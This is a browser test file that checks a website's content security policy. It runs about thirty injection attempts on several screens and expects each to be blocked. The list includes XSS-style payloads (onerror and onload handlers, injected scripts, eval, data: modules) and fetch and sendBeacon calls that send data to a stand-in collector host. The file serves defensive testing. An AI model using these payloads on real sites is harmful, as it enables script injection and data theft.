import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { expectCleanVisit, open, openSettled, type Visit } from '../../support/browser/browser';
import { everyError } from '../../support/browser/faults';
import { adminScreens, expectedErrors, publicScreens, signInScreen, type Screen } from '../../support/browser/screens';
import { settled } from '../../support/browser/settled';
import { openScreen } from '../../support/browser/staff';
import { needsCases, proves } from '../../support/evidence.ts';

const category = 'hardening';

/** The attempts that each directive rejects. An attacker who can run code in the page makes these attempts. */
const attemptsBy: Record<string, Record<string, string>> = {
  'require-trusted-types-for': {
    'an element with a handler, as innerHTML': `document.body.innerHTML = '<img src="data:," onerror="ran = 1">'`,
    'a script alone, as innerHTML': `document.body.innerHTML = '<script>ran = 1</' + 'script>'`,
    'an element, as outerHTML': `document.querySelector('main').outerHTML = '<i></i>'`,
    'an element beside another': `document.body.insertAdjacentHTML('beforeend', '<svg onload="ran = 1">')`,
    'a page of its own in a frame': `document.createElement('iframe').srcdoc = '<script>parent.ran = 1</' + 'script>'`,
    'a document from text': `new DOMParser().parseFromString('<p>text</p>', 'text/html')`,
    'a fragment from text': `document.createRange().createContextualFragment('<b></b>')`,
    'writing into the page': `document.write('<p>written</p>')`,
    'a script of another site': `document.createElement('script').src = 'https://cdn.example.com/a.js'`,
    'an answer of the site as a script': `document.createElement('script').src = '/rest/v1/links?select=ran'`,
    'an answer of the service through the folder of scripts': `document.createElement('script').src = '/assets/../rest/v1/links'`,
    'a script from data': `document.createElement('script').setAttribute('src', 'data:text/javascript,ran = 1')`,
    'a script from its text': `document.createElement('script').textContent = 'ran = 1'`,
    'a handler as an attribute': `document.body.setAttribute('onclick', 'ran = 1')`,
    'text run by a timer': `setTimeout('ran = 1')`,
    'text run at once': `(0, eval)('ran = 1')`,
    'a function from text': `new Function('ran = 1')()`,
    'a worker from data': `new Worker('data:text/javascript,0')`,
    'a plug-in': `const object = document.createElement('object'); object.data = 'https://plugins.example.com/a'; document.body.append(object)`,
  },
  'trusted-types': {
    'a second policy for code': `trustedTypes.createPolicy('another', {})`,
  },
  'script-src-elem': {
    // The text is valid JSON, and the browser still refuses to run it.
    'a script from harmless text': `const script = document.createElement('script'); script.textContent = '"text"'; document.head.append(script)`,
    'a module from data': `await import('data:text/javascript,globalThis.ran = 1')`,
    'a module of another site': `await import('https://cdn.example.com/a.js')`,
  },
  'style-src-elem': {
    'a style element': `const style = document.createElement('style'); style.textContent = '* { display: none }'; document.head.append(style)`,
  },
  'style-src-attr': {
    'a style attribute': `document.body.setAttribute('style', 'display: none')`,
  },
  'connect-src': {
    'data sent to another site': `await fetch('https://collect.example.com/')`,
    'data sent on leaving': `navigator.sendBeacon('https://collect.example.com/', 'data')`,
  },
  'img-src': {
    'a picture without encryption': `new Image().src = 'http://pictures.example.com/a.png'`,
  },
  'font-src': {
    'a font of another site': `await new FontFace('Other', 'url(https://fonts.example.com/a.woff2)').load()`,
  },
  'media-src': {
    'a film': `document.createElement('video').src = 'https://films.example.com/a.mp4'`,
  },
  'frame-src': {
    'a frame of another site': `const frame = document.createElement('iframe'); frame.src = 'https://frames.example.com/'; document.body.append(frame)`,
  },
  'base-uri': {
    'another base for all addresses': `const base = document.createElement('base'); base.href = 'https://base.example.com/'; document.head.append(base)`,
  },
  'form-action': {
    'a form sent to another site': `const form = document.createElement('form'); form.action = 'https://forms.example.com/'; document.body.append(form); form.submit()`,
  },
};
const attempts = Object.entries(attemptsBy).flatMap(([directive, codes]) =>
  Object.entries(codes).map(([name, code]) => [name, directive, code] as const),
);

/** A few public pages and pages of staff. The other pages have the same policy. */
const attacked: readonly Screen[] = [...publicScreens, ...adminScreens, signInScreen].filter(({ name }) =>
  ['home', 'post', 'contact', 'sign-in', 'edit post', 'settings'].includes(name),
);

/** Clears the violations and requests that a test caused on purpose. */
function forget({ violations, requests }: Visit): void {
  violations.length = 0;
  requests.length = 0;
}

/** Runs code in the page, in a separate task. Ignores errors of the code. */
async function attempt(page: Page, code: string): Promise<void> {
  await page.evaluate(`new Promise((done) => setTimeout(() => {
    (async () => { ${code} })().catch(() => undefined).then(done);
  }))`);
}

describe('the policy of a page', () => {
  test.for(attacked)('rejects each attempt on the screen $name', async (screen, context) => {
    for (const [challenge, directive] of attempts)
      proves(context, { category, surface: `screen: ${screen.name}`, challenge, expected: `rejected by ${directive}` });
    const visitor = await openScreen(screen, { expectedErrors: everyError });
    const { page, violations } = visitor;
    expect(violations).toEqual([]);
    for (const [challenge, directive, code] of attempts) {
      await attempt(page, code);
      await expect
        .poll(() => violations.map((each) => each.split(':')[0]), { message: challenge })
        .toContain(directive);
      forget(visitor);
    }
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
    expect(await page.locator('main h1').first().isVisible()).toBe(true);
  });

  test('needs a case for each screen and each attempt', (context) => {
    const pairs = attacked.flatMap(({ name }) => attempts.map(([each]) => [`screen: ${name}`, each] as const));
    expect(attacked).toHaveLength(6);
    needsCases(context, { category, pairs });
  });

  test('fails the test of a page that breaks the policy', async () => {
    const visitor = await open('/contact', { expectedErrors: everyError });
    expect(() => expectCleanVisit(visitor)).not.toThrow();
    await attempt(visitor.page, `document.body.innerHTML = '<b></b>'`);
    // The header's policy and the page's policy each report the violation.
    await expect.poll(() => visitor.violations.length).toBe(2);
    expect(() => expectCleanVisit(visitor)).toThrow('what the content security policy forbids');
    forget(visitor);
  });
});

test('an uncaught error fails the test of a page, whatever errors the test expects in the log', async () => {
  const visitor = await open('/contact', { expectedErrors: everyError });
  await visitor.page.evaluate(() => {
    setTimeout(() => {
      throw new Error('thrown by a timer');
    });
    void Promise.reject(new Error('rejected'));
  });
  await expect.poll(() => [...visitor.uncaught].sort()).toEqual(['rejected', 'thrown by a timer']);
  expect(() => expectCleanVisit(visitor)).toThrow('errors that nothing caught');
  visitor.uncaught.length = 0;
});

describe('each screen', () => {
  test.for([...publicScreens, signInScreen, ...adminScreens])(
    'the screen $name obeys the policy and hides the address of the page from other sites',
    async (screen, context) => {
      const surface = `screen: ${screen.name}`;
      proves(
        context,
        { category, surface, challenge: 'its own policy', expected: 'nothing it forbids' },
        { category, surface, challenge: 'links to other sites', expected: 'noopener noreferrer' },
      );
      const { page, violations } = await openScreen(screen, { expectedErrors });
      expect(violations).toEqual([]);
      const links = await page
        .locator('a[href]')
        .evaluateAll((found) =>
          (found as HTMLAnchorElement[])
            .filter(({ protocol, host, target }) => /^https?:$/.test(protocol) && (host !== location.host || target))
            .map(({ href, rel }) => ({ href, rel })),
        );
      // This page has links to other sites, so the search must find some.
      if (screen.address === '/links') expect(links.length).toBeGreaterThan(0);
      expect(links.filter(({ rel }) => !/\bnoopener\b/.test(rel) || !/\bnoreferrer\b/.test(rel))).toEqual([]);
    },
  );

  test('obeys the policy after navigation in the browser and keeps its structured data', async (context) => {
    const [surface, challenge] = ['navigation in the browser', 'its own policy'];
    proves(context, { category, surface, challenge, expected: 'nothing it forbids' });
    const { page, violations } = await openSettled('/');
    for (const name of ['Consoles', 'Blog', 'Contact']) {
      await page.getByRole('banner').getByRole('link', { name, exact: true }).click();
      await page.waitForFunction((title) => document.title.toLowerCase().includes(title), name.toLowerCase());
      await settled(page);
      const structuredData = await page.locator('script[type="application/ld+json"]').allTextContents();
      expect(structuredData, name).toHaveLength(1);
      expect(JSON.parse(structuredData[0] ?? ''), name).toMatchObject({ '@context': 'https://schema.org' });
    }
    expect(violations).toEqual([]);
  });
});
